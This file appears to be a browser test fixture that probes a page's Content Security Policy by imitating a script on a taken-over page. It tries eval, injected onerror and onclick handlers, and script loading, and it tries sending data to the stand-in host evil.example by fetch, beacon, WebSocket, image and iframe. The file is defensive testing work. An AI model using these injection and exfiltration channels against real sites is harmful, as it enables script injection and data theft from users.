// What a page that was taken over tries, as a script of its own origin: Playwright's own evaluations go past the
// policy. Each result is what came of it; a spec reads them from `probes`.
const reports = []
document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))

async function outcome(attempt) {
  try {
    const value = await attempt()
    return value === undefined ? 'done' : String(value)
  } catch (error) {
    return error.name
  }
}

const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

async function image(url) {
  const img = document.createElement('img')
  const settled = new Promise((resolve) => {
    img.onload = () => resolve('loaded')
    img.onerror = () => resolve('refused')
  })
  img.src = url
  document.body.append(img)
  return await settled
}

async function frame(url) {
  const iframe = document.createElement('iframe')
  iframe.src = url
  document.body.append(iframe)
  await later(300)
  try {
    // Another origin's window can't be asked: that it can't is the answer.
    return String(Reflect.has(iframe.contentWindow, 'strongroom'))
  } catch (error) {
    return error.name
  }
}

async function probe() {
  const results = {
    eval: await outcome(() => globalThis['ev' + 'al']('1 + 1')),
    function: await outcome(() => new Function('return 1')()),
    timer: await outcome(() => setTimeout('window.pwned = 1')),
    innerHtml: await outcome(() => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.pwned = 1">'
    }),
    parser: await outcome(() => new DOMParser().parseFromString('<b>x</b>', 'text/html').body.innerText),
    scriptText: await outcome(() => {
      document.createElement('script').text = 'window.pwned = 1'
    }),
    scriptSource: await outcome(() => {
      document.createElement('script').src = 'https://evil.example/x.js'
    }),
    handler: await outcome(() => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.pwned = 1')
      document.body.append(button)
      button.click()
      return window.pwned ?? 'nothing ran'
    }),
    fetchOut: await outcome(() => fetch('https://evil.example/')),
    fetchOwn: await outcome(() => fetch('./index.html')),
    beacon: await outcome(() => navigator.sendBeacon('https://evil.example/', 'x')),
    socket: await outcome(() => new WebSocket('wss://evil.example/')),
    worker: await outcome(() => new Worker('./assets/window.js')),
    imageOut: await image('https://evil.example/x.png'),
    frameOut: await frame('https://evil.example/'),
    framePreview: await frame(`${location.origin.replace('strongroom', 'preview')}/preview.html`),
    frameOwn: await frame('./index.html'),
    opened: await outcome(() => String(window.open('https://evil.example/'))),
    style: await outcome(() => {
      const style = document.createElement('style')
      style.textContent = 'h1 { color: rgb(1, 2, 3) }'
      document.head.append(style)
      return getComputedStyle(document.querySelector('h1')).color === 'rgb(1, 2, 3)' ? 'applied' : 'nothing'
    }),
  }
  // Violations are told a task later.
  await later(200)
  window.probes = { ...results, pwned: window.pwned ?? null, reports: [...new Set(reports)].sort() }
}

window.bridgeAtStart = typeof window.strongroom
probe()
